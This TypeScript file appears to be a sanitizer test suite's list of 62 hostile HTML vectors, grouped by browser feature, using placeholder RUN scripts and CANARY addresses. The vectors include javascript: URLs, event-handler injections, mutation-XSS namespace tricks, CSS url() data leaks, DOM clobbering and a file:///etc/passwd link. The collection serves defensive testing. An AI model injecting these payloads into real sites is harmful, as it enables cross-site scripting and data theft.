/**
 * Untrusted HTML in the form of a browser-security collection: an id, the browser feature it abuses, the payload. Our
 * own cases. RUN is a script that must not run, CANARY an address that must not be requested.
 */
export interface Vector {
  id: number;
  part: 'parser' | 'forms' | 'media' | 'links' | 'css' | 'namespaces' | 'navigation' | 'dom';
  data: string;
}

export const vectors: readonly Vector[] = [
  { id: 1, part: 'forms', data: '<form id=t></form><button form=t formaction="javascript:RUN">x</button>' },
  { id: 2, part: 'forms', data: '<form action="javascript:RUN"><input type=submit></form>' },
  { id: 3, part: 'forms', data: '<form><button formaction="CANARY/f" formtarget=_blank>x</button></form>' },
  { id: 4, part: 'forms', data: '<input onblur=RUN autofocus><input autofocus>' },
  { id: 5, part: 'forms', data: '<isindex action="javascript:RUN" type=image>' },
  { id: 6, part: 'forms', data: '<select autofocus onfocus=RUN><option>x</select>' },
  { id: 7, part: 'forms', data: '<textarea autofocus onfocus=RUN></textarea>' },
  { id: 8, part: 'forms', data: '<label for=opener>Accept</label><output onforminput=RUN></output>' },
  {
    id: 9,
    part: 'forms',
    data: '<button commandfor=x command=show-popover>x</button><button popovertarget=x>x</button>',
  },
  { id: 10, part: 'media', data: '<video poster="javascript:RUN"></video>' },
  { id: 11, part: 'media', data: '<video><source onerror=RUN src=x></video>' },
  { id: 12, part: 'media', data: '<audio autoplay controls src="CANARY/a"><track src="CANARY/t"></audio>' },
  { id: 13, part: 'media', data: '<object data="data:text/html,<script>parent.RUN</script>"></object>' },
  { id: 14, part: 'media', data: '<object><param name=movie value="CANARY/p"></object>' },
  { id: 15, part: 'media', data: '<embed code="CANARY/e.swf" src="data:image/svg+xml,<svg onload=RUN>">' },
  { id: 16, part: 'media', data: '<img src=x:x onerror=RUN loading=eager>' },
  { id: 17, part: 'media', data: '<canvas id=c onclick=RUN>words</canvas>' },
  { id: 18, part: 'links', data: '<a href="javascript:RUN" target=_self>x</a>' },
  { id: 19, part: 'links', data: '<a href="feed:javascript:RUN">x</a>' },
  { id: 20, part: 'links', data: '<a href="view-source:javascript:RUN">x</a>' },
  { id: 21, part: 'links', data: '<a href="https://user:pass@evil.example/">bank.example</a>' },
  { id: 22, part: 'links', data: '<a href="intent://scan/#Intent;scheme=zxing;end">x</a>' },
  { id: 23, part: 'links', data: '<a href="file:///etc/passwd">x</a><a href="filesystem:x">x</a>' },
  { id: 24, part: 'links', data: '<a href="https://ok.example" download="x.exe" rel=opener>x</a>' },
  { id: 25, part: 'links', data: '<area href="javascript:RUN"><link rel=import href="CANARY/i.html">' },
  {
    id: 26,
    part: 'links',
    data: '<a xlink:href="javascript:RUN" xmlns:xlink="http://www.w3.org/1999/xlink">x</a>',
  },
  { id: 27, part: 'css', data: '<style>p::before{content:url(CANARY/c1)}</style><p>x</p>' },
  { id: 28, part: 'css', data: '<style>@namespace x;@import url(//canary.example/x);</style>' },
  { id: 29, part: 'css', data: '<p style="list-style:url(CANARY/c2);cursor:url(CANARY/c3),auto">x</p>' },
  { id: 30, part: 'css', data: '<p style="--x:url(CANARY/c4);background:var(--x)">x</p>' },
  { id: 31, part: 'css', data: '<style>input[value^=a]{background:url(CANARY/c5)}</style>' },
  {
    id: 32,
    part: 'css',
    data: '<div style="content-visibility:auto" oncontentvisibilityautostatechange=RUN>x</div>',
  },
  { id: 33, part: 'css', data: '<svg><style>*{fill:url(CANARY/c6#x)}</style></svg>' },
  { id: 34, part: 'namespaces', data: '<svg xmlns="http://www.w3.org/2000/svg" onload=RUN><g/></svg>' },
  {
    id: 35,
    part: 'namespaces',
    data: '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>RUN</handler></svg>',
  },
  { id: 36, part: 'namespaces', data: '<math href="javascript:RUN"><mrow>x</mrow></math>' },
  { id: 37, part: 'namespaces', data: '<svg><desc><img src=x onerror=RUN></desc></svg>' },
  {
    id: 38,
    part: 'namespaces',
    data: '<svg><title><style><img src="</style><img src=x onerror=RUN>"></title></svg>',
  },
  {
    id: 39,
    part: 'namespaces',
    data: '<math></br><mtext><style><a title="</style><img src=x onerror=RUN>">',
  },
  {
    id: 40,
    part: 'namespaces',
    data: '<svg><font><svg><p><style><g title="</style><img src=x onerror=RUN>">',
  },
  { id: 41, part: 'namespaces', data: '<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>' },
  {
    id: 42,
    part: 'namespaces',
    data: '<math><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=RUN src=1>">',
  },
  { id: 43, part: 'parser', data: '<table><a href="javascript:RUN"><tr><td>x</a></table>' },
  { id: 44, part: 'parser', data: '<b><p></b><script>RUN</script></p>' },
  { id: 45, part: 'parser', data: '<!DOCTYPE x [<!ENTITY y "<script>RUN</script>">]><p>&y;</p>' },
  { id: 46, part: 'parser', data: '<p title="&quot;&gt;&lt;script&gt;RUN&lt;/script&gt;">x</p>' },
  { id: 47, part: 'parser', data: '<a title="--!><img src=x onerror=RUN>"><!--' },
  {
    id: 48,
    part: 'parser',
    data: '<table><caption><form><table></form><img src=x onerror=RUN></table></caption></table>',
  },
  { id: 49, part: 'parser', data: '<ruby><rt><script>RUN</script></rt></ruby>' },
  { id: 50, part: 'parser', data: '\uFEFF<script>RUN</script>\u0000<img src=x onerror=RUN>' },
  { id: 51, part: 'parser', data: '<img src=x onerror=RUN//' },
  { id: 52, part: 'parser', data: `${'<div>'.repeat(300)}<img src=x onerror=RUN>` },
  { id: 53, part: 'navigation', data: '<meta http-equiv=refresh content="0; javascript:RUN">' },
  { id: 54, part: 'navigation', data: '<iframe src="CANARY/n1" onload=RUN></iframe>' },
  {
    id: 55,
    part: 'navigation',
    data: '<iframe sandbox=allow-scripts srcdoc="&lt;script&gt;top.location=CANARY/n2&lt;/script&gt;"></iframe>',
  },
  {
    id: 56,
    part: 'navigation',
    data: '<base target=_top href="CANARY/n3/"><a href="https://ok.example">x</a>',
  },
  {
    id: 57,
    part: 'navigation',
    data: '<html manifest="CANARY/n4" onload=RUN><head><meta charset=utf-7></head>',
  },
  {
    id: 58,
    part: 'dom',
    data: '<img name=createElement><img name=implementation><form name=parentNode><input name=removeChild></form>',
  },
  { id: 59, part: 'dom', data: '<form><input name=parentNode><input name=childNodes>words</form>' },
  {
    id: 60,
    part: 'dom',
    data: '<form name=attributes><input name=length></form><a id=x><a id=x name=y href="javascript:RUN">x</a>',
  },
  { id: 61, part: 'dom', data: '<div id=notice role=alert>The fee is 0</div><div id=changed></div>' },
  {
    id: 62,
    part: 'dom',
    data: '<p part="proposal accept" exportparts=accept slot=x itemprop=x nonce=x>x</p>',
  },
];
